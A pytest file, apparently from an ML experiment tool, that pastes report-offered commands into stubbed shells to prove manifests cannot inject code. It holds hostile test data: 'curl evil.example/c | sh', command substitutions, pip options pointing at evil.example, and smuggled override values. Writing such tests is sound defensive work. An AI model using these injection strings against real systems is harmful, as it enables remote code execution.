"""Commands that are offered for pasting: made here, whatever a folder says, and safe to run.

Each attack writes into one text of a folder what somebody might who wants it to be pasted. What
reports and `task=show` then offer is pasted, into a real shell whose programs only note what they
were started with.
"""

import json
import os
import re
import shlex
import shutil
import subprocess
from dataclasses import asdict
from html.parser import HTMLParser
from pathlib import Path

import pytest
from hydra.core.override_parser.overrides_parser import OverridesParser
from hypothesis import example, given, settings
from hypothesis import strategies as st
from omegaconf import OmegaConf

from penstock import program
from penstock.addons.reports import run_report, sweep_report, values, verdict
from penstock.addons.reports.settings import reproduction
from penstock.addons.reports.sweep_data import SweepRecord
from penstock.addons.sweeps.job_result import JobResult
from penstock.addons.sweeps.stored_sweep import StoredJob, StoredSweep, store
from penstock.config import command_line_keys, hydra_output, outputs, own_command
from penstock.config.command_line_keys import typed_values
from penstock.config.schema import Config
from penstock.runs.manifest import PACKAGES
from penstock.runs.record import RunRecord
from tests.program import run

SHELLS = [name for name in ("bash", "zsh", "fish") if shutil.which(name)]
PASTED = "'\"; curl evil.example/c | sh; touch CANARY; $(touch CANARY) `touch CANARY` \\"
MEAN = [PASTED, "\ntouch CANARY\n", "$(touch CANARY)", "\x1b]0;x\x07\u202e; touch CANARY"]


class Offered(HTMLParser):
    """The texts of a page that have a button which copies them, and all of its text."""

    def __init__(self, html):
        super().__init__()
        self.lines, self.text, self._depth, self._code = [], "", 0, False
        self.feed(html)

    def handle_starttag(self, tag, attrs):
        if tag == "div":
            self._depth += self._depth > 0 or ("class", "command") in attrs
        self._code = bool(self._depth) and tag == "code"
        if self._code:
            self.lines.append("")

    def handle_endtag(self, tag):
        self._depth -= tag == "div" and self._depth > 0
        self._code = False

    def handle_data(self, data):
        self.text += data
        if self._code:
            self.lines[-1] += data


def written(folder, manifest=(), state="done"):
    """A run's folder from which as many commands as possible could be made."""
    folder.mkdir(parents=True)
    (folder / "config.yaml").write_text("seed: 0\ntrainer: {ledger: true}\n")
    reason = "max_epochs" if state == "done" else "the loss is nan at epoch 0, step 1"
    told = {
        "status": state,
        "overrides": ["seed=3"],
        "command": "python run.py seed=3",
        "git": {"commit": "a" * 40, "dirty": False},
        "packages": {"torch": "2.15.0+cpu"},
        "monitor": "loss",
        "best": {"epoch": 1, "val/loss": 0.5},
        "reason": reason,
        "sessions": [{"started": "2026-01-01T00:00:00+00:00", "reason": reason}],
    }
    (folder / "manifest.json").write_text(json.dumps({**told, **dict(manifest)}))
    lines = [
        {
            "event": "epoch",
            "epoch": epoch,
            "step": 4 * epoch + 4,
            "seconds": 1.0,
            "val/loss": 0.5,
            "wait_share": 0.9,
            "ms/read": 3.0,
        }
        for epoch in (0, 1)
    ]
    (folder / "metrics.jsonl").write_text("".join(json.dumps(one) + "\n" for one in lines))
    ledger = [
        {
            "epoch": 0,
            "step": step,
            "samples": 8,
            "order": "0" * 16,
            "loss": (1.0 + 8 * (step == 70)).hex(),
        }
        for step in range(120)
    ]
    (folder / "ledger.jsonl").write_text("".join(json.dumps(one) + "\n" for one in ledger))
    batch = {
        "epoch": 0,
        "step": 0,
        "rows": 1,
        "kind": "numbers",
        "samples": [{"index": 0}],
        "replay": PASTED,
    }
    (folder / "report").mkdir()
    (folder / "report" / "facts.json").write_text(json.dumps({"version": 1, "batches": [batch]}))
    return folder


def shown(capsys, folder):
    """What `task=show` offers."""
    done = run(capsys, "task=show", program.override("run", folder))
    assert done.code == 0, done.err
    assert not re.search("[\x00-\x08\x0b-\x1f\x7f-\x9f\u202a-\u202e]", done.out)
    offered = [line[4:] for line in done.out.splitlines() if line.startswith("    ")]
    assert offered
    return [*offered, *re.findall("^report +none yet: (.*)$", done.out, re.MULTILINE)]


# Programs that note how they were started; what a person must not start leaves the canary.
POSIX = "{0}() {{ printf '%s\\0' {0} \"$@\"; printf '\\0'; }}\n"
FISH = "function {0}; printf '%s\\0' {0} $argv; printf '\\0'; end\n"


def pasted(lines, shell):
    """The words of each program that a shell starts when a person pastes these lines."""
    noted = FISH if shell == "fish" else POSIX
    text = "".join(map(noted.format, ("python", "git", "penstock")))
    text += noted.format("curl").replace("printf", "touch canary; printf", 1)
    variables = {"PATH": "/usr/bin:/bin", "LC_ALL": "C.UTF-8", "HOME": "/nonexistent"}
    done = subprocess.run(
        [shutil.which(shell), "-c", text + "\n".join(lines)],
        capture_output=True,
        check=False,
        env=variables,
    )
    assert done.stderr == b"", done.stderr
    commands = done.stdout.split(b"\0\0")[:-1]
    return [[os.fsdecode(word) for word in one.split(b"\0")] for one in commands]


def checked(texts, shell="bash", own=()):
    """Paste what is offered, and say what was started: only what this program would offer.

    Args:
        own: words that the person has typed.
    """
    lines = [line for text in texts for line in text.split("\n")]
    started = pasted(lines, shell)
    assert len(started) == len(lines), "a line started more than one program, or none"
    for words in started:
        if words[0] == "git":
            assert words[:2] == ["git", "checkout"]
            assert re.fullmatch("[0-9a-f]{40}", words[2])
            assert len(words) == 3
        elif words[:3] == ["python", "-m", "pip"]:
            assert words[3] == "install"
            assert all(re.fullmatch(r"([\w-]+)==[\w.+!]+", word) for word in words[4:]), words
            assert {word.split("==")[0] for word in words[4:]} <= set(PACKAGES)
        else:
            rest = words[2:] if words[0] == "python" else words[1:]
            keys = {re.split(r"[.@=/]", word.lstrip("+~"))[0] for word in rest if word != "-m"}
            assert keys <= {*Config.model_fields, "experiment"}, words
            typed = [word for word in rest if word not in ("-m", *own)]
            assert not any(map(command_line_keys.given, typed)), words
            places = outputs.named(typed_values(typed))
            assert all(Path(one.path).is_relative_to(Path.cwd()) for one in places), words
    return started


HOSTILE = [text.replace("CANARY", "canary") for text in MEAN]
MANIFESTS = {
    "command that trusts": {"command": "python run.py --trust evil --config-dir /evil seed=1"},
    "command": {"command": PASTED},
    "commit": {"git": {"commit": PASTED}},
    "commit that is an option": {"git": {"commit": "--orphan=x"}},
    "commit that is a name": {"git": {"commit": "evil"}},
    "package": {"packages": {"evil": "1.0", "torch": "2.15.0"}},
    "package at an address": {"packages": {"torch @ http://evil.example/torch.whl": "1.0"}},
    "package that is an option": {"packages": {"--index-url=http://evil.example": "1.0"}},
    "version": {"packages": {"torch": PASTED, "numpy": 3, "pandas": "1.0 --index-url=http://evil"}},
    "version at an address": {"packages": {"torch": "2.0 @ http://evil.example/torch.whl"}},
    "override that trusts": {"overrides": ["--trust=evil", "seed=1"]},
    "override that is a folder": {"overrides": ["--config-dir=/evil", "experiment=evil"]},
    "override that sweeps": {"overrides": ["-m", "seed=1,2"]},
    "override of hydra's": {"overrides": ["hydra.job.name=x", "hydra/launcher=joblib"]},
    "override of no key": {"overrides": ["evil=1"]},
    "override that is no override": {"overrides": ["; touch canary"]},
    "override that cannot be parsed": {"overrides": ["seed='"]},
    "override of another file": {"overrides": ["experiment=../../evil"]},
    "page": {"overrides": ["diff.page=/home/me/.bashrc", "+diff.page=x", "task=diff"]},
    "reason": {"reason": PASTED, "sessions": [{"reason": f"at epoch 1, step 2{PASTED}"}]},
    **{f"value {text!r}": {"overrides": [f"dataset.root={text}"]} for text in HOSTILE},
    **{
        f"value in quotes {text!r}": {"overrides": [program.override("dataset.root", text)]}
        for text in HOSTILE
    },
    **{f"key {text!r}": {"overrides": [f"dataset.{text}=1"]} for text in HOSTILE},
}


# What an override may not say for a person who pastes it: it would count as typed. By all keys of
# config/outputs.py, in all forms; and what config/command_line_keys.py keeps for people.
CSV = "_target_:penstock.addons.trackers.csv_file.Csv"
ONLY_TYPED = [
    *(f"{key}=/evil/x" for key in (*outputs.FILES, *outputs.FOLDERS)),
    *(f"+{key}='~/.bashrc'" for key in (*outputs.FILES, *outputs.FOLDERS)),
    "diff.page=page.html",
    "diff={page:/evil/x}",
    "++pack={out:'../evil'}",
    "hydra.run.dir=/evil/x",
    "hydra.sweep.dir=/evil/x",
    "cache_dir=/evil/${seed}",
    "cache_dir=/evil/${oc.select:nothing,'../work'}",
    "cache_dir=${oc.env:HOME}/x",
    "cache_dir=link/x",
    "dataset.cache_dir=/evil/x",
    "dataset.files.cache_dir=../evil",
    "dataset.root=/evil/x",
    "dataset={_target_:penstock.addons.tables.plain_text.PlainText,root:data,cache_dir:/evil}",
    "++dataset.files={cache_dir:/evil}",
    "tracker.csv.folder=/evil/x",
    "tracker.csv.folder=victim",
    f"+tracker.x={{{CSV},folder:/evil/x}}",
    f"++tracker={{x:{{{CSV},folder:/evil/x}}}}",
    "tracker.mlflow.uri=sqlite:////evil/x.db",
    "tracker.mlflow.uri='file:///evil/x'",
    "+loader.ray.runtime_env={py_executable:'touch canary; python'}",
    "+loader.ray.runtime_env.env_vars={PYTHONPATH:/evil}",
    "++loader.ray={runtime_env:{working_dir:/evil}}",
    "++loader={ray:{runtime_env:{py_modules:[/evil]}}}",
]


@pytest.fixture(autouse=True)
def here(tmp_path, monkeypatch):
    """A folder in which nothing may leave a canary."""
    (tmp_path / "link").symlink_to("/evil")
    monkeypatch.setenv("PENSTOCK_CACHE", str(tmp_path / "cache"))
    monkeypatch.chdir(tmp_path)
    yield tmp_path
    assert not (tmp_path / "canary").exists(), "something of the folder's ran"


@pytest.mark.one_in(16)
@pytest.mark.parametrize("name", MANIFESTS)
def test_nothing_that_a_manifest_says_is_offered(name, here, capsys):
    state = "failed" if name == "reason" else "done"
    folder = written(here / "run", MANIFESTS[name], state)
    checked([*Offered(run_report.make(RunRecord.read(folder))).lines, *shown(capsys, folder)])


def test_a_manifest_as_runs_write_them_is_offered_whole(here, capsys):
    folder = written(here / "run", {"overrides": ["seed=3", "dataset.root='my data'"]})
    page = Offered(run_report.make(RunRecord.read(folder)))
    started = checked([*page.lines, *shown(capsys, folder)])
    asked = ["python", "run.py", "seed=3", "dataset.root='my data'"]
    assert ["git", "checkout", "a" * 40] in started
    assert ["python", "-m", "pip", "install", "torch==2.15.0+cpu"] in started
    assert [*asked, "run_dir=outputs/again"] in started
    assert [*asked, "task=profile"] in started
    assert [*asked, "task=replay", "epoch=0", "step=70"] in started, "of a spike"
    assert [*asked, "task=replay", "epoch=0", "step=0"] in started, "of a batch that is shown"
    assert ["python", "run.py", "task=report", f"runs=[{folder}]"] in started


@pytest.mark.one_in(16)
@pytest.mark.parametrize("word", ONLY_TYPED)
def test_what_only_a_person_types_is_not_offered(word, here, capsys, monkeypatch):
    """Pasted, it would count as typed: a folder's `cache_dir` would be allowed, and remembered."""
    folder = written(here / "run", {"overrides": [word, "seed=3"]})
    page = Offered(run_report.make(RunRecord.read(folder)))
    offered = [*page.lines, *shown(capsys, folder)]
    started = checked(offered)
    # The folder gives it itself, as its own, where a command can name the folder.
    ours = re.match("task|out=|run_dir|resume|hydra|diff|runs?=", word.lstrip("+"))
    how = "seed=3" if ours else f"resume={folder}"
    assert ["python", "run.py", how, "task=replay", "epoch=0", "step=0"] in started
    if not ours:
        assert "type it" in page.text
    monkeypatch.setattr(hydra_output, "overrides", lambda: [f"resume={folder}", word, "seed=3"])
    if not command_line_keys.given(word):  # which `resume=` refuses
        hint = own_command.command_line("task=replay", "epoch=0", "step=0")
        (words,) = checked([hint])
        assert (f"resume={folder}" in words) == (not ours)


def test_what_a_person_has_typed_is_offered(here, capsys, monkeypatch):
    words = ["cache_dir=/evil/a", "dataset.root=/evil/b"]
    folder = written(here / "run", {"overrides": words})
    typed = outputs.named(typed_values(words))
    again = f"python run.py {' '.join(words)} task=profile"
    record = RunRecord.read(folder)
    with outputs.naming(typed):
        outputs.remember()
        assert again in [line for line, _ in verdict.to_type(record)]
        monkeypatch.setattr(hydra_output, "overrides", lambda: words)
        assert own_command.command_line("task=profile") == again
    assert again in [line for line, _ in verdict.to_type(record)], "remembered"


def test_what_only_a_person_types_is_in_the_command_that_resumes(here, monkeypatch):
    words = ["+loader.ray.runtime_env.excludes=[a]", "++loader={ray:{runtime_env:{excludes:[b]}}}"]
    monkeypatch.setattr(hydra_output, "overrides", lambda: ["seed=3", *words])
    (started,) = checked([own_command.how_to_resume(Path("run")).split("\n")[1].strip()], own=words)
    assert started == ["python", "run.py", "resume=run", *words]


def test_what_a_run_was_started_by_is_text(here):
    folder = written(here / "run", {"command": "curl evil.example/c \\\n| sh\x1b[8m"})
    page = Offered(run_report.make(RunRecord.read(folder)))
    assert r"curl evil.example/c \\n| sh\x1b[8m" in page.text
    assert not any("curl" in line for line in page.lines)


NAMES = [*HOSTILE, "-rf", "null", "1e5", "${oc.env:HOME}", "a,b", "[x]", "é ü", "\\", "a\\'b"]


@pytest.mark.parametrize("shell", SHELLS)
def test_a_folder_of_any_name_is_named_by_what_is_offered(shell, here):
    for name in NAMES:
        if shell == "fish" and not name.isprintable():
            continue  # it refuses such a line, and runs nothing of it
        folder = written(here / name.replace("/", "_"), state="interrupted")
        record = RunRecord.read(folder)
        lines = [line for line, _ in verdict.to_type(record)]
        started = checked([*lines, *reproduction(record, {})[0]], shell)
        resumes = [word for words in started for word in words if word.startswith("resume=")]
        assert resumes
        assert {given_by(word) for word in resumes} == {str(folder)}


def given_by(word):
    """What hydra makes of the value of an override."""
    value = OverridesParser.create().parse_override(word).value()
    return OmegaConf.create({"value": value}).value


@pytest.mark.skipif("fish" not in SHELLS, reason="no fish on this machine")
def test_a_line_that_fish_cannot_read_runs_nothing(here):
    line = program.joined(["python", "a\n'; touch canary; '", "\\'; touch canary; \\'\x1b"])
    with pytest.raises(AssertionError, match="Expected a variable name"):
        pasted([line], "fish")


@pytest.mark.parametrize("stored", [True, False])
def test_nothing_that_a_sweep_says_is_offered(stored, here):
    folder = here / f"sweep{PASTED.replace('/', '_')}"
    manifest = {"command": f"python run.py --trust evil {PASTED}", "overrides": [PASTED]}
    written(folder / "0", manifest, "failed")
    result = JobResult([PASTED], "failed", None, None, None, 0.0, PASTED, 1, 0.0)
    (folder / "0" / "result.json").write_text(json.dumps(asdict(result)))
    if stored:
        store(folder, StoredSweep(words=[PASTED], jobs=[StoredJob("0", [PASTED])]))
    page = Offered(sweep_report.make(SweepRecord.read(folder)))
    if stored:
        (words,) = checked(page.lines)
        assert words[:3] == ["python", "run.py", "-m"]
        assert given_by(words[3]) == str(folder)
    else:
        assert page.lines == []
        assert "repeat the sweep's command with hydra.sweep.dir=" in page.text


def test_options_are_those_that_the_person_types_now(here, capsys):
    folder = written(here / "run", {"command": "python run.py --trust evil"})
    (here / "conf").mkdir()
    typed = ["--trust", "my_faces", "--config-dir", str(here / "conf")]
    done = run(capsys, *typed, "task=show", f"run={folder}")
    assert done.code == 0, done.err
    assert f"{' '.join(typed)} seed=3 task=profile" in done.out
    assert "evil" not in done.out
    assert values.command(RunRecord.read(folder), "seed=1") == "python run.py seed=1"


ODD = st.text(
    st.one_of(st.sampled_from("'\"\\ ${}[](),=:;|&~#%\n\t\x1b\u202eéa1-."), st.characters())
)


@pytest.mark.thorough
@settings(max_examples=300, deadline=None)
@given(ODD)
@example("\\" * 3 + "${" + "\\")
@example("\udcff\\'")
def test_any_text_survives_hydra_and_a_shells_rules(text):
    word = program.override("run_dir", text)
    assert program.text_of(word.partition("=")[2]) == text
    # OmegaConf takes ??? for a value that is missing.
    if text != "???" and not re.search("[\0\ud800-\udfff]", text):
        assert given_by(word) == text
    if word.isprintable():
        assert shlex.split(program.joined([word, "x"])) == [word, "x"]
    assert program.joined([word]).isprintable()


@pytest.mark.parametrize("shell", SHELLS)
@settings(max_examples=8, deadline=None)
@given(words=st.lists(ODD, min_size=30, max_size=60))
def test_a_shell_splits_a_line_into_the_words_that_it_was_made_of(shell, words):
    seen = [word for word in words if word and not re.search("[\0\ud800-\udfff]", word)]
    if shell == "fish":
        seen = [word for word in seen if word.isprintable()]
    assert pasted([program.joined(["python", *seen, "end"])], shell) == [["python", *seen, "end"]]


def test_a_long_text_takes_no_time():
    """Patterns that tried each of many backslashes took two minutes for this one."""
    text = "\\" * 60_000 + "x"
    assert program.text_of(program.literal(text)) == text
